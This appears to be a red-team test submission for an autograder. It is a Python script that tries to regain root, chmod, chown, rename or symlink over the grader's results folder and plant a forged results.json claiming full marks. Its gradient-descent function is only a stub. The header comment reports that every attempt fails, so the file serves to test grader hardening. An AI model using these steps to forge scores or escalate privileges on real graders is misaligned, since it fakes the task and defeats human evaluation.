# ATTACK (Gradescope, no namespaces): goes for the results folder itself: chmod 0777, chown to
# itself, rename it away and put a folder of its own with a forged results.json in its place,
# or a symlink to one; and tries to get root back (setuid(0), setresuid). Its GD only calls
# loss_fn.
# VERDICT: every step fails (the folder and its parent are root's; the grading uid has no
# privileges to regain); the lazy GD's own score (1/10), the folder still root's, 0755.
import glob
import json
import os

FORGED = json.dumps({"score": 10.0, "output": "FORGED", "tests": []})


def attempt(what, fn, *args):
    try:
        fn(*args)
        print(f"ATTACK OK: {what}")
    except OSError as e:
        print(f"refused: {what}: {e}")


for uid_call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0)):
    attempt("root again", uid_call)
for folder in ["/autograder/results", *glob.glob("/tmp/gs-weak-*/results")]:
    attempt(f"chmod {folder}", os.chmod, folder, 0o777)
    attempt(f"chown {folder}", os.chown, folder, os.getuid(), os.getgid())
    attempt(f"rename {folder}", os.rename, folder, folder + ".old")
    attempt(f"mkdir {folder}", os.mkdir, folder)
    attempt(f"symlink {folder}", os.symlink, "/tmp", folder)
    mine = f"/tmp/forged-{os.getpid()}.json"
    try:
        with open(mine, "w") as f:
            f.write(FORGED)
        attempt("link results.json", os.symlink, mine, f"{folder}/results.json")
    except OSError as e:
        print(f"refused: {e}")


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    for _ in range(loop_max):
        loss_fn(params)
